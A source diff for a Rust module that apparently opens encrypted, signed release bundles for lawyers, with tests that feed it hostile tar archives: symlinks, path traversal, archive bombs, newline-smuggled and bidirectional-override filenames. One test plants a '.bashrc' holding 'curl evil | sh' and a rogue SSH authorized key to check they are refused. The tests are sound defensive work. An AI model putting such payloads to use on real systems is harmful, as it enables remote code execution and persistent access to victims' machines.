@@ -1,0 +1,936 @@
+//! Opening a release bundle on the lawyer's side, safely whatever the bundle holds.
+//!
+//! Anyone who knows a lawyer's public key can seal a file for it, and a hostile watcher can
+//! serve an old or a re-encrypted copy. So nothing is written until everything is checked,
+//! and nothing the bundle says can make the checks expensive:
+//!
+//! 1. the input is read into memory up to a fixed size (a bundle is bounded), then decrypted
+//!    into memory up to a fixed size;
+//! 2. the tar headers are walked once and refused past a number of entries, a path depth, or
+//!    an extension header size (a directory bomb or a 400 MB name costs nothing);
+//! 3. the signature over every file is checked, then the sealer against `--from`, then that
+//!    the key that opened it is one the journalist sealed it for;
+//! 4. only then are the plain files written, under names stripped of control and
+//!    bidirectional characters, into a hidden folder that is renamed into place at the end.
+//!
+//! The input may be the sealed bundle, or the tar archive already decrypted by `age -d`.
+
+use std::io::{Read, Write};
+use std::path::{Component, Path, PathBuf};
+
+use zeroize::Zeroizing;
+
+use super::bundle::{
+    BundleError, FORMAT_V1, FORMAT_V2, MAX_SIGNATURE_FILE, Manifest, PADDING_FILE, SIGNATURE_FILE,
+    Sealer, check_signature, sha256_hex,
+};
+use super::keys::{LawyerKey, normalised_recipient};
+
+/// The most a bundle's archive may hold once decrypted: the content limit, tar headers for
+/// every entry, and the padding.
+pub const MAX_PLAINTEXT: u64 = super::bundle::MAX_BUNDLE + 8 * 1024 * 1024;
+/// The most read as input: the archive, in the larger ASCII-armoured form of age.
+const MAX_INPUT: u64 = MAX_PLAINTEXT / 3 * 4 + 1024 * 1024;
+/// Entries (files, folders, extension headers) an archive may have. A bundle holds a folder
+/// per record with its attachments; a journalist seals tens of records, not thousands.
+pub const MAX_ENTRIES: usize = 10_000;
+/// posbon writes `FOLDER/FILE` at most.
+const MAX_DEPTH: usize = 2;
+/// A path in the archive, and one name in it, at most (bytes).
+const MAX_PATH: usize = 1024;
+const MAX_NAME: usize = 255;
+/// Extension headers (PAX, GNU long names) at most: names fit in far less.
+const MAX_EXTENSION_HEADER: u64 = 8 * 1024;
+
+/// What a bundle was opened with.
+pub enum Input<'a> {
+    /// A sealed bundle (an `age` file), and the lawyer's key.
+    Sealed(&'a LawyerKey),
+    /// A tar archive already decrypted (`age -d ... | posbon open -`): the key that
+    /// opened it is not known here, so the recipient check is left to the lawyer.
+    Plain,
+}
+
+/// Whose key opened the bundle, as checked against the recipients it was sealed for.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum KeyCheck {
+    /// The key that opened it is one the journalist sealed the bundle for.
+    SealedForThisKey,
+    /// Opened from a decrypted archive: which key opened it is not known.
+    NotChecked,
+    /// Sealed by a posbon that did not name its recipients.
+    OlderFormat,
+}
+
+/// An opened bundle: what it says it holds, who sealed it, and what was written.
+#[derive(Debug)]
+pub struct Opened {
+    pub manifest: Manifest,
+    pub sealer: Sealer,
+    pub key: KeyCheck,
+    /// The files written, relative to the output folder (nothing when only looked at).
+    pub written: Vec<PathBuf>,
+    /// SHA-256 of the input as read (the sealed file, or the archive), hex.
+    pub sha256: String,
+}
+
+/// One file of the archive: its name as stored, and where its bytes are.
+struct Entry {
+    name: String,
+    start: usize,
+    len: usize,
+}
+
+/// Opens `input`: checks it entirely, then (with `out`) writes its files under `out`, which
+/// must not exist. Without `out`, nothing is written: what the bundle holds and who sealed
+/// it are returned, to be shown.
+///
+/// With `from` (a sealing fingerprint as the lawyer typed it), a bundle sealed by another
+/// key, or not signed, is refused. A bundle that names its recipients and was opened with a
+/// key not among them (re-encrypted by someone else) is refused.
+pub fn open(
+    input: &mut dyn Read,
+    how: Input<'_>,
+    out: Option<&Path>,
+    from: Option<&str>,
+) -> Result<Opened, BundleError> {
+    if let Some(out) = out
+        && out.symlink_metadata().is_ok()
+    {
+        return Err(already_exists(out));
+    }
+    let raw = read_bounded(input, MAX_INPUT, "the input is larger than any bundle")?;
+    let sha256 = sha256_hex(&raw);
+    let (archive, used_key) = match how {
+        Input::Sealed(key) => {
+            let (plain, public) = decrypt(&raw, key)?;
+            (plain, Some(public))
+        }
+        Input::Plain => {
+            if looks_like_age(&raw) {
+                return Err(BundleError::Invalid(
+                    "this is a sealed bundle: give your key with -i KEY".into(),
+                ));
+            }
+            if raw.len() as u64 > MAX_PLAINTEXT {
+                return Err(BundleError::Damaged(
+                    "it unpacks to more than a bundle can hold".into(),
+                ));
+            }
+            (raw, None)
+        }
+    };
+    walk_headers(&archive)?;
+    let (entries, manifest, sealer) = read_archive(&archive)?;
+    check_sealer(&sealer, from)?;
+    let key = check_recipient(&manifest, used_key.as_deref())?;
+    let mut opened = Opened {
+        manifest,
+        sealer,
+        key,
+        written: Vec::new(),
+        sha256,
+    };
+    if let Some(out) = out {
+        opened.written = write_out(&archive, &entries, out)?;
+    }
+    Ok(opened)
+}
+
+fn already_exists(out: &Path) -> BundleError {
+    BundleError::Invalid(format!(
+        "{} already exists: give a new folder with --out",
+        out.display()
+    ))
+}
+
+/// Everything `reader` holds, refused past `limit` bytes (without reading further).
+fn read_bounded(
+    reader: &mut dyn Read,
+    limit: u64,
+    too_large: &str,
+) -> Result<Zeroizing<Vec<u8>>, BundleError> {
+    let mut bytes = Zeroizing::new(Vec::new());
+    reader
+        .take(limit + 1)
+        .read_to_end(&mut bytes)
+        .map_err(|e| BundleError::Damaged(format!("it cannot be read: {e}")))?;
+    if bytes.len() as u64 > limit {
+        return Err(BundleError::Damaged(too_large.into()));
+    }
+    Ok(bytes)
+}
+
+fn looks_like_age(bytes: &[u8]) -> bool {
+    bytes.starts_with(b"age-encryption.org/v1\n")
+        || bytes
+            .trim_ascii_start()
+            .starts_with(b"-----BEGIN AGE ENCRYPTED FILE-----")
+}
+
+/// Decrypts with whichever of the lawyer's identities opens it; returns the archive and the
+/// recipient of the identity that did.
+fn decrypt(sealed: &[u8], key: &LawyerKey) -> Result<(Zeroizing<Vec<u8>>, String), BundleError> {
+    if !looks_like_age(sealed) {
+        return Err(BundleError::NotForThisKey);
+    }
+    for (identity, public) in &key.keys {
+        let Ok(decryptor) = age::Decryptor::new(age::armor::ArmoredReader::new(sealed)) else {
+            return Err(BundleError::NotForThisKey);
+        };
+        // Each identity is tried alone, to know which one opened it.
+        let Ok(mut reader) = decryptor.decrypt(std::iter::once(identity.as_ref())) else {
+            continue;
+        };
+        let plain = read_bounded(
+            &mut reader,
+            MAX_PLAINTEXT,
+            "it unpacks to more than a bundle can hold",
+        )?;
+        return Ok((plain, public.clone()));
+    }
+    Err(BundleError::NotForThisKey)
+}
+
+/// Walks the tar headers without the tar library, which would read a long-name or PAX
+/// header of any size into memory: refuses too many entries and oversized extension headers.
+fn walk_headers(archive: &[u8]) -> Result<(), BundleError> {
+    let mut at = 0usize;
+    let mut entries = 0usize;
+    while at + 512 <= archive.len() {
+        let header = &archive[at..at + 512];
+        if header.iter().all(|&b| b == 0) {
+            return Ok(());
+        }
+        entries += 1;
+        if entries > MAX_ENTRIES {
+            return Err(BundleError::Damaged(format!(
+                "it has more than {MAX_ENTRIES} entries"
+            )));
+        }
+        let size = tar_size(&header[124..136])
+            .ok_or_else(|| BundleError::Damaged("a tar header is malformed".into()))?;
+        // 'L'/'K': GNU long name and link; 'x'/'g': PAX headers.
+        if matches!(header[156], b'L' | b'K' | b'x' | b'g') && size > MAX_EXTENSION_HEADER {
+            return Err(BundleError::Damaged(format!(
+                "an extension header of {size} bytes (a name is far shorter)"
+            )));
+        }
+        let padded = size
+            .checked_add(511)
+            .map(|s| s / 512 * 512)
+            .and_then(|s| usize::try_from(s).ok())
+            .ok_or_else(|| BundleError::Damaged("a tar header is malformed".into()))?;
+        at = at
+            .checked_add(512 + padded)
+            .ok_or_else(|| BundleError::Damaged("a tar header is malformed".into()))?;
+    }
+    Ok(())
+}
+
+/// A tar size field: octal digits, or base-256 when the top bit is set.
+fn tar_size(field: &[u8]) -> Option<u64> {
+    if field[0] & 0x80 != 0 {
+        let mut value: u64 = 0;
+        for &b in &field[1..] {
+            value = value.checked_mul(256)?.checked_add(u64::from(b))?;
+        }
+        return Some(value);
+    }
+    let text = std::str::from_utf8(field).ok()?;
+    let digits = text.trim_matches(|c: char| c == '\0' || c == ' ');
+    if digits.is_empty() {
+        return Some(0);
+    }
+    u64::from_str_radix(digits, 8).ok()
+}
+
+/// Reads the archive's entries (in memory, writing nothing), the manifest and the signature.
+fn read_archive(archive: &[u8]) -> Result<(Vec<Entry>, Manifest, Sealer), BundleError> {
+    let damaged = |e: std::io::Error| BundleError::Damaged(e.to_string());
+    let mut tar = tar::Archive::new(archive);
+    let mut entries: Vec<Entry> = Vec::new();
+    let mut listing: Vec<(String, u64, String)> = Vec::new();
+    let mut manifest = None;
+    let mut sealer = Sealer::Unsigned;
+    let mut signed = false;
+    for entry in tar.entries().map_err(damaged)? {
+        let entry = entry.map_err(damaged)?;
+        if signed {
+            return Err(BundleError::Damaged(format!(
+                "something follows {SIGNATURE_FILE}, outside what it signs"
+            )));
+        }
+        let kind = entry.header().entry_type();
+        if kind.is_dir() {
+            continue;
+        }
+        // posbon writes regular files only: links, devices, FIFOs and sparse files are refused.
+        if !kind.is_file() {
+            return Err(BundleError::Damaged(format!(
+                "it holds something other than plain files ({kind:?})"
+            )));
+        }
+        let path = entry.path().map_err(damaged)?.into_owned();
+        // The signed listing has a line per file: a name with a line break (or any control
+        // character) could make several files read as one, hiding some from the signature.
+        let Some(name) = path.to_str().filter(|n| !n.chars().any(char::is_control)) else {
+            return Err(BundleError::Damaged(
+                "a file name holds a control character or is not UTF-8".into(),
+            ));
+        };
+        check_path(&path)?;
+        let start = usize::try_from(entry.raw_file_position()).map_err(|_| too_large())?;
+        let len = usize::try_from(entry.size()).map_err(|_| too_large())?;
+        let bytes = archive
+            .get(start..start.checked_add(len).ok_or_else(too_large)?)
+            .ok_or_else(|| BundleError::Damaged("it is cut short".into()))?;
+        if name == SIGNATURE_FILE {
+            if len as u64 > MAX_SIGNATURE_FILE {
+                return Err(BundleError::Damaged(format!(
+                    "{SIGNATURE_FILE} is too large"
+                )));
+            }
+            sealer = check_signature(bytes, &listing)?;
+            signed = true;
+        } else {
+            if name == "manifest.json" {
+                let parsed: Manifest = serde_json::from_slice(bytes)
+                    .map_err(|e| BundleError::Damaged(format!("manifest.json: {e}")))?;
+                if parsed.format != FORMAT_V1 && parsed.format != FORMAT_V2 {
+                    return Err(BundleError::Damaged(format!(
+                        "manifest.json: the format {:?} is not one posbon knows",
+                        parsed.format
+                    )));
+                }
+                manifest = Some(parsed);
+            }
+            listing.push((name.to_string(), len as u64, sha256_hex(bytes)));
+        }
+        entries.push(Entry {
+            name: name.to_string(),
+            start,
+            len,
+        });
+    }
+    let manifest = manifest.ok_or_else(|| BundleError::Damaged("it has no manifest".into()))?;
+    Ok((entries, manifest, sealer))
+}
+
+fn too_large() -> BundleError {
+    BundleError::Damaged("it unpacks to more than a bundle can hold".into())
+}
+
+/// A path posbon could have written: relative, no `..`, at most `FOLDER/FILE`, short names.
+fn check_path(path: &Path) -> Result<(), BundleError> {
+    let outside = || {
+        BundleError::Damaged(format!(
+            "it names a file outside its folder: {}",
+            displayable(&path.to_string_lossy())
+        ))
+    };
+    let mut depth = 0;
+    for component in path.components() {
+        let Component::Normal(name) = component else {
+            return Err(outside());
+        };
+        depth += 1;
+        if name.len() > MAX_NAME {
+            return Err(BundleError::Damaged("a file name is too long".into()));
+        }
+    }
+    if depth == 0 {
+        return Err(outside());
+    }
+    if depth > MAX_DEPTH || path.as_os_str().len() > MAX_PATH {
+        return Err(BundleError::Damaged(format!(
+            "a path deeper than a bundle's: {}",
+            displayable(&path.to_string_lossy())
+        )));
+    }
+    Ok(())
+}
+
+/// Refuses a bundle that `from` (as typed) does not name as its sealer.
+fn check_sealer(sealer: &Sealer, from: Option<&str>) -> Result<(), BundleError> {
+    match (sealer, from) {
+        (_, None) => Ok(()),
+        (Sealer::Signed { fingerprint }, Some(expected)) => {
+            if super::bundle::same_fingerprint(expected, fingerprint) {
+                Ok(())
+            } else {
+                Err(BundleError::WrongSealer {
+                    expected: expected.trim().to_string(),
+                    found: fingerprint.clone(),
+                })
+            }
+        }
+        (Sealer::Unsigned, Some(_)) => Err(BundleError::Unsigned),
+    }
+}
+
+/// Whether the key that opened the bundle is one of those the (signed) manifest names.
+fn check_recipient(manifest: &Manifest, used: Option<&str>) -> Result<KeyCheck, BundleError> {
+    if manifest.format == FORMAT_V1 {
+        return Ok(KeyCheck::OlderFormat);
+    }
+    let Some(used) = used else {
+        return Ok(KeyCheck::NotChecked);
+    };
+    let used = normalised_recipient(used);
+    if manifest
+        .recipients
+        .iter()
+        .any(|r| normalised_recipient(r) == used)
+    {
+        Ok(KeyCheck::SealedForThisKey)
+    } else {
+        Err(BundleError::NotSealedForThisKey { key: used })
+    }
+}
+
+/// A name as shown and written: control, bidirectional and other invisible format
+/// characters (which can make `fdp.exe` read as `exe.pdf`) become `_`.
+pub fn displayable(name: &str) -> String {
+    name.chars()
+        .map(|c| if is_hidden_char(c) { '_' } else { c })
+        .collect()
+}
+
+/// Characters that change how text is shown without being seen: controls, the bidirectional
+/// marks, embeddings, overrides and isolates, and zero-width characters.
+pub fn is_hidden_char(c: char) -> bool {
+    c.is_control()
+        || matches!(c,
+            '\u{061C}' | '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}'
+            | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{2069}' | '\u{FEFF}'
+            | '\u{FFF9}'..='\u{FFFB}')
+}
+
+/// Writes the files into a hidden folder beside `out`, renamed to `out` once all are
+/// written, so `out` never holds half a bundle, even if posbon is killed half-way.
+fn write_out(archive: &[u8], entries: &[Entry], out: &Path) -> Result<Vec<PathBuf>, BundleError> {
+    let partial = partial_dir(out);
+    std::fs::create_dir(&partial)?;
+    let result = write_files(archive, entries, &partial).and_then(|written| {
+        // rename(2) replaces an empty directory, so `out` is claimed with mkdir first.
+        std::fs::create_dir(out).map_err(|e| match e.kind() {
+            std::io::ErrorKind::AlreadyExists => already_exists(out),
+            _ => BundleError::Io(e),
+        })?;
+        std::fs::rename(&partial, out)?;
+        Ok(written)
+    });
+    if result.is_err() {
+        let _ = std::fs::remove_dir_all(&partial);
+    }
+    result
+}
+
+fn write_files(archive: &[u8], entries: &[Entry], dir: &Path) -> Result<Vec<PathBuf>, BundleError> {
+    use std::os::unix::fs::OpenOptionsExt;
+    let mut written = Vec::new();
+    for entry in entries {
+        // The padding is only there to hide the size.
+        if entry.name == PADDING_FILE {
+            continue;
+        }
+        let relative = PathBuf::from(displayable(&entry.name));
+        let target = dir.join(&relative);
+        if let Some(parent) = target.parent() {
+            std::fs::create_dir_all(parent)?;
+        }
+        let mut file = std::fs::OpenOptions::new()
+            .write(true)
+            .create_new(true)
+            .mode(0o600)
+            .open(&target)
+            .map_err(|e| BundleError::Damaged(format!("{}: {e}", relative.display())))?;
+        file.write_all(&archive[entry.start..entry.start + entry.len])?;
+        file.sync_all()?;
+        written.push(relative);
+    }
+    Ok(written)
+}
+
+/// A hidden folder beside `out`, for the files until all are written.
+fn partial_dir(out: &Path) -> PathBuf {
+    let name = out
+        .file_name()
+        .map(|n| n.to_string_lossy().into_owned())
+        .unwrap_or_else(|| "bundle".into());
+    let suffix = hex::encode(crate::crypto::random_array::<4>());
+    out.with_file_name(format!(".{name}.partial-{suffix}"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::bundle::{
+        SIGNATURE_FORMAT, SignatureFile, sealing_fingerprint, signed_listing,
+    };
+    use super::*;
+
+    fn tar_header(path: &str, size: u64) -> tar::Header {
+        let mut header = tar::Header::new_gnu();
+        header.set_path(path).unwrap();
+        header.set_size(size);
+        header.set_mode(0o600);
+        header.set_cksum();
+        header
+    }
+
+    /// A lawyer's key, and a bundle sealed for it holding what `build` writes.
+    fn sealed_archive(build: impl FnOnce(&mut tar::Builder<&mut Vec<u8>>)) -> (Vec<u8>, LawyerKey) {
+        let mut plain = Vec::new();
+        {
+            let mut archive = tar::Builder::new(&mut plain);
+            build(&mut archive);
+            archive.finish().unwrap();
+        }
+        let (_, identity) = crate::vault::identity::generate();
+        seal_plain(&plain, identity)
+    }
+
+    fn seal_plain(plain: &[u8], identity: age::x25519::Identity) -> (Vec<u8>, LawyerKey) {
+        let recipient = identity.to_public();
+        let mut sealed = Vec::new();
+        let encryptor =
+            age::Encryptor::with_recipients(std::iter::once(&recipient as &dyn age::Recipient))
+                .unwrap();
+        let mut writer = encryptor.wrap_output(&mut sealed).unwrap();
+        writer.write_all(plain).unwrap();
+        writer.finish().unwrap();
+        let public = recipient.to_string();
+        (
+            sealed,
+            LawyerKey {
+                keys: vec![(Box::new(identity), public)],
+            },
+        )
+    }
+
+    fn sealing_key() -> ring::signature::Ed25519KeyPair {
+        let rng = ring::rand::SystemRandom::new();
+        let pkcs8 = ring::signature::Ed25519KeyPair::generate_pkcs8(&rng).unwrap();
+        ring::signature::Ed25519KeyPair::from_pkcs8(pkcs8.as_ref()).unwrap()
+    }
+
+    fn manifest(recipients: Vec<String>) -> Vec<u8> {
+        serde_json::to_vec(&Manifest {
+            format: FORMAT_V2.into(),
+            name: "n".into(),
+            sealed_ms: 0,
+            by: "b".into(),
+            for_: vec![],
+            items: vec![],
+            bundle_id: "00".repeat(16),
+            version: 1,
+            recipients,
+        })
+        .unwrap()
+    }
+
+    /// A signed archive: the manifest (naming `recipients`), `files`, the signature; then
+    /// whatever `after` appends.
+    fn signed_plain(
+        key: &ring::signature::Ed25519KeyPair,
+        recipients: Vec<String>,
+        files: &[(&str, &[u8])],
+        after: impl FnOnce(&mut tar::Builder<&mut Vec<u8>>),
+    ) -> Vec<u8> {
+        let mut plain = Vec::new();
+        {
+            let mut a = tar::Builder::new(&mut plain);
+            let manifest = manifest(recipients);
+            let mut listing = Vec::new();
+            for (path, bytes) in
+                std::iter::once(("manifest.json", &manifest[..])).chain(files.iter().copied())
+            {
+                a.append(&tar_header(path, bytes.len() as u64), bytes)
+                    .unwrap();
+                listing.push((path.to_string(), bytes.len() as u64, sha256_hex(bytes)));
+            }
+            let public = ring::signature::KeyPair::public_key(key).as_ref();
+            let signature = serde_json::to_vec(&SignatureFile {
+                format: SIGNATURE_FORMAT.into(),
+                key: crate::watch::protocol::b64(public),
+                fingerprint: sealing_fingerprint(public),
+                signature: crate::watch::protocol::b64(
+                    key.sign(&signed_listing(&listing)).as_ref(),
+                ),
+            })
+            .unwrap();
+            a.append(
+                &tar_header(SIGNATURE_FILE, signature.len() as u64),
+                &signature[..],
+            )
+            .unwrap();
+            after(&mut a);
+            a.finish().unwrap();
+        }
+        plain
+    }
+
+    /// A bundle signed by `key`, sealed for a new lawyer's key and naming it.
+    fn signed_bundle(
+        key: &ring::signature::Ed25519KeyPair,
+        files: &[(&str, &[u8])],
+        after: impl FnOnce(&mut tar::Builder<&mut Vec<u8>>),
+    ) -> (Vec<u8>, LawyerKey) {
+        let (_, identity) = crate::vault::identity::generate();
+        let plain = signed_plain(key, vec![identity.to_public().to_string()], files, after);
+        seal_plain(&plain, identity)
+    }
+
+    fn names_in(dir: &Path) -> Vec<String> {
+        let mut names: Vec<String> = std::fs::read_dir(dir)
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .collect();
+        names.sort();
+        names
+    }
+
+    #[test]
+    fn hostile_archives_are_refused_and_leave_nothing_behind() {
+        let temp = tempfile::tempdir().unwrap();
+        let open_at = |sealed: &[u8], key: &LawyerKey, name: &str| {
+            open(
+                &mut &sealed[..],
+                Input::Sealed(key),
+                Some(&temp.path().join(name)),
+                None,
+            )
+        };
+        // A symbolic link pointing out of the folder.
+        let (sealed, key) = sealed_archive(|a| {
+            let mut header = tar::Header::new_ustar();
+            header.set_entry_type(tar::EntryType::Symlink);
+            header.set_path("01-x/link").unwrap();
+            header.set_link_name("/etc/passwd").unwrap();
+            header.set_size(0);
+            header.set_cksum();
+            a.append(&header, std::io::empty()).unwrap();
+        });
+        assert!(matches!(
+            open_at(&sealed, &key, "a"),
+            Err(BundleError::Damaged(_))
+        ));
+        // A FIFO, which would hang whatever opened it.
+        let (sealed, key) = sealed_archive(|a| {
+            let mut header = tar_header("01-x/fifo", 0);
+            header.set_entry_type(tar::EntryType::Fifo);
+            header.set_cksum();
+            a.append(&header, std::io::empty()).unwrap();
+        });
+        assert!(matches!(
+            open_at(&sealed, &key, "b"),
+            Err(BundleError::Damaged(_))
+        ));
+        // An entry claiming more than a bundle can hold.
+        let (sealed, key) = sealed_archive(|a| {
+            let header = tar_header("01-x/huge", MAX_PLAINTEXT * 4);
+            a.append(&header, std::io::repeat(0).take(0)).unwrap_or(());
+        });
+        assert!(open_at(&sealed, &key, "c").is_err());
+        // A path leaving the folder, and one deeper than posbon writes.
+        let (sealed, key) = sealed_archive(|a| {
+            let mut header = tar::Header::new_gnu();
+            let name = b"../escaped";
+            header.as_old_mut().name[..name.len()].copy_from_slice(name);
+            header.set_size(1);
+            header.set_cksum();
+            a.append(&header, &b"x"[..]).unwrap();
+        });
+        assert!(open_at(&sealed, &key, "d").is_err());
+        assert!(!temp.path().join("escaped").exists());
+        let (sealed, key) = sealed_archive(|a| {
+            a.append(&tar_header("a/b/c/d", 1), &b"x"[..]).unwrap();
+        });
+        assert!(
+            matches!(open_at(&sealed, &key, "e"), Err(BundleError::Damaged(why)) if why.contains("deeper"))
+        );
+        // Nothing at all was written for any of them.
+        assert!(
+            names_in(temp.path()).is_empty(),
+            "{:?}",
+            names_in(temp.path())
+        );
+    }
+
+    /// The audit's denial-of-service bundles: each is refused quickly, in bounded memory,
+    /// before anything is written.
+    #[test]
+    fn bombs_are_refused_before_anything_is_written() {
+        let temp = tempfile::tempdir().unwrap();
+        // 400,000 directories in a few MB (the audit's took 43 s and was refused after 104).
+        let (sealed, key) = sealed_archive(|a| {
+            for n in 0..(MAX_ENTRIES + 10) {
+                let mut header = tar_header(&format!("d{n}"), 0);
+                header.set_entry_type(tar::EntryType::Directory);
+                header.set_cksum();
+                a.append(&header, std::io::empty()).unwrap();
+            }
+        });
+        let started = std::time::Instant::now();
+        let refused = open(
+            &mut &sealed[..],
+            Input::Sealed(&key),
+            Some(&temp.path().join("dirs")),
+            None,
+        );
+        assert!(matches!(refused, Err(BundleError::Damaged(why)) if why.contains("entries")));
+        // Not a timing test: a bound far above the real cost, to catch a walk of the disk.
+        assert!(started.elapsed() < std::time::Duration::from_secs(20));
+        // A GNU long name of 4 MB (the audit's 400 MB one took 2 GB of memory).
+        let mut plain = Vec::new();
+        let mut header = tar::Header::new_gnu();
+        header.as_old_mut().name[..13].copy_from_slice(b"././@LongLink");
+        header.set_entry_type(tar::EntryType::GNULongName);
+        header.set_size(4 * 1024 * 1024);
+        header.set_cksum();
+        plain.extend_from_slice(header.as_bytes());
+        plain.extend(std::iter::repeat_n(b'a', 4 * 1024 * 1024));
+        plain.extend_from_slice(&[0u8; 1024]);
+        let (sealed, key) = seal_plain(&plain, crate::vault::identity::generate().1);
+        let refused = open(
+            &mut &sealed[..],
+            Input::Sealed(&key),
+            Some(&temp.path().join("name")),
+            None,
+        );
+        assert!(
+            matches!(refused, Err(BundleError::Damaged(why)) if why.contains("extension header"))
+        );
+        // A sparse file claiming a terabyte.
+        let (sealed, key) = sealed_archive(|a| {
+            let mut header = tar_header("01-x/sparse", 0);
+            header.set_entry_type(tar::EntryType::GNUSparse);
+            header.set_cksum();
+            a.append(&header, std::io::empty()).unwrap();
+        });
+        let refused = open(
+            &mut &sealed[..],
+            Input::Sealed(&key),
+            Some(&temp.path().join("sparse")),
+            None,
+        );
+        assert!(matches!(refused, Err(BundleError::Damaged(_))));
+        // Input larger than any bundle is not read to its end.
+        let mut endless = std::io::repeat(b'x');
+        let refused = open(
+            &mut endless,
+            Input::Plain,
+            Some(&temp.path().join("big")),
+            None,
+        );
+        assert!(matches!(refused, Err(BundleError::Damaged(why)) if why.contains("larger")));
+        assert!(names_in(temp.path()).is_empty());
+    }
+
+    #[test]
+    fn the_signature_covers_every_file_and_nothing_may_follow_it() {
+        let key = sealing_key();
+        let fingerprint = sealing_fingerprint(ring::signature::KeyPair::public_key(&key).as_ref());
+        let temp = tempfile::tempdir().unwrap();
+        let files: &[(&str, &[u8])] = &[("01-x/a.txt", b"case notes")];
+        let (sealed, lawyer) = signed_bundle(&key, files, |_| {});
+        let opened = open(
+            &mut &sealed[..],
+            Input::Sealed(&lawyer),
+            Some(&temp.path().join("ok")),
+            None,
+        )
+        .unwrap();
+        assert_eq!(
+            opened.sealer,
+            Sealer::Signed {
+                fingerprint: fingerprint.clone()
+            }
+        );
+        assert_eq!(opened.key, KeyCheck::SealedForThisKey);
+        assert_eq!(
+            opened.written,
+            [
+                PathBuf::from("manifest.json"),
+                PathBuf::from("01-x/a.txt"),
+                PathBuf::from(SIGNATURE_FILE)
+            ]
+        );
+        assert_eq!(
+            std::fs::read(temp.path().join("ok/01-x/a.txt")).unwrap(),
+            b"case notes"
+        );
+        // A file slipped in after the signature, outside what it covers.
+        let (sealed, lawyer) = signed_bundle(&key, files, |a| {
+            a.append(&tar_header("01-x/planted.txt", 1), &b"x"[..])
+                .unwrap();
+        });
+        assert!(matches!(
+            open(&mut &sealed[..], Input::Sealed(&lawyer), Some(&temp.path().join("after")), None),
+            Err(BundleError::Damaged(why)) if why.contains("follows")
+        ));
+        // A name with a line break, which could make two files read as one in the signed
+        // listing and hide the second.
+        let (sealed, lawyer) = sealed_archive(|a| {
+            let mut header = tar::Header::new_gnu();
+            let name = b"01-x/b.txt\nfeed 1 01-x/c.txt";
+            header.as_old_mut().name[..name.len()].copy_from_slice(name);
+            header.set_size(1);
+            header.set_cksum();
+            a.append(&header, &b"x"[..]).unwrap();
+        });
+        assert!(matches!(
+            open(&mut &sealed[..], Input::Sealed(&lawyer), Some(&temp.path().join("newline")), None),
+            Err(BundleError::Damaged(why)) if why.contains("control character")
+        ));
+        // --from: another sealer, or none, is refused.
+        let (sealed, lawyer) = signed_bundle(&key, files, |_| {});
+        assert!(matches!(
+            open(
+                &mut &sealed[..],
+                Input::Sealed(&lawyer),
+                Some(&temp.path().join("other")),
+                Some("0000-1111")
+            ),
+            Err(BundleError::WrongSealer { .. })
+        ));
+        let (unsigned, lawyer) = sealed_archive(|a| {
+            let manifest = manifest(vec![]);
+            a.append(
+                &tar_header("manifest.json", manifest.len() as u64),
+                &manifest[..],
+            )
+            .unwrap();
+        });
+        assert!(matches!(
+            open(
+                &mut &unsigned[..],
+                Input::Sealed(&lawyer),
+                Some(&temp.path().join("unsigned")),
+                Some(&fingerprint)
+            ),
+            Err(BundleError::Unsigned)
+        ));
+        assert_eq!(
+            names_in(temp.path()),
+            ["ok"],
+            "only what opened and checked out"
+        );
+    }
+
+    /// A forger holding only the lawyer's public key seals dotfiles and an executable: with
+    /// `--from`, `posbon open` writes none of it (the same files through `age -d | tar x`
+    /// would replace the lawyer's `.bashrc`).
+    #[test]
+    fn a_forged_bundle_of_dotfiles_writes_nothing() {
+        let temp = tempfile::tempdir().unwrap();
+        let journalist = sealing_key();
+        let fingerprint =
+            sealing_fingerprint(ring::signature::KeyPair::public_key(&journalist).as_ref());
+        let forger = sealing_key();
+        for (name, files) in [("unsigned", None), ("forged", Some(&forger))] {
+            let (_, identity) = crate::vault::identity::generate();
+            let plain = match files {
+                Some(forger) => signed_plain(
+                    forger,
+                    vec![identity.to_public().to_string()],
+                    &[
+                        (".bashrc", b"curl evil | sh"),
+                        (".ssh/authorized_keys", b"ssh-ed25519 AAAA evil"),
+                    ],
+                    |_| {},
+                ),
+                None => {
+                    let mut plain = Vec::new();
+                    let mut a = tar::Builder::new(&mut plain);
+                    a.append(&tar_header(".bashrc", 14), &b"curl evil | sh"[..])
+                        .unwrap();
+                    a.finish().unwrap();
+                    drop(a);
+                    plain
+                }
+            };
+            let (sealed, lawyer) = seal_plain(&plain, identity);
+            let refused = open(
+                &mut &sealed[..],
+                Input::Sealed(&lawyer),
+                Some(&temp.path().join(name)),
+                Some(&fingerprint),
+            );
+            assert!(refused.is_err(), "{name}");
+        }
+        assert!(names_in(temp.path()).is_empty());
+    }
+
+    /// Someone who could open the bundle (one lawyer) re-encrypts it for another: the signed
+    /// recipients show it.
+    #[test]
+    fn a_copy_re_encrypted_for_another_key_is_refused() {
+        let key = sealing_key();
+        let (_, first) = crate::vault::identity::generate();
+        let plain = signed_plain(
+            &key,
+            vec![first.to_public().to_string()],
+            &[("01-x/a.txt", b"notes")],
+            |_| {},
+        );
+        let (_, second) = crate::vault::identity::generate();
+        let (copy, lawyer) = seal_plain(&plain, second);
+        let temp = tempfile::tempdir().unwrap();
+        let refused = open(
+            &mut &copy[..],
+            Input::Sealed(&lawyer),
+            Some(&temp.path().join("copy")),
+            None,
+        );
+        assert!(matches!(
+            refused,
+            Err(BundleError::NotSealedForThisKey { .. })
+        ));
+        // The plain archive itself (from `age -d`) opens, with the recipient left unchecked.
+        let opened = open(
+            &mut &plain[..],
+            Input::Plain,
+            Some(&temp.path().join("plain")),
+            None,
+        )
+        .unwrap();
+        assert_eq!(opened.key, KeyCheck::NotChecked);
+    }
+
+    #[test]
+    fn names_that_hide_their_ending_are_written_plainly() {
+        let key = sealing_key();
+        let tricky = "01-x/report\u{202E}fdp.exe";
+        let (sealed, lawyer) = signed_bundle(&key, &[(tricky, b"MZ")], |_| {});
+        let temp = tempfile::tempdir().unwrap();
+        let opened = open(
+            &mut &sealed[..],
+            Input::Sealed(&lawyer),
+            Some(&temp.path().join("o")),
+            None,
+        )
+        .unwrap();
+        assert!(
+            opened
+                .written
+                .contains(&PathBuf::from("01-x/report_fdp.exe")),
+            "{:?}",
+            opened.written
+        );
+        assert!(temp.path().join("o/01-x/report_fdp.exe").exists());
